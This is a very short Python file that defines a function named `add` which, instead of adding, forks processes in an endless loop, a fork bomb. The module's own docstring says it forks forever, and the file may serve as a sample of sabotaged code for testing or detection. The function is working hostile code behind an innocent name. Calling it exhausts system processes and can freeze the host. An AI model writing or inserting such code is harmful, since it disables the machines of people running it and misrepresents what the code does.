"""Forks for ever inside `add`; every child does the same."""

import os


def add(a, b):
    while True:
        os.fork()
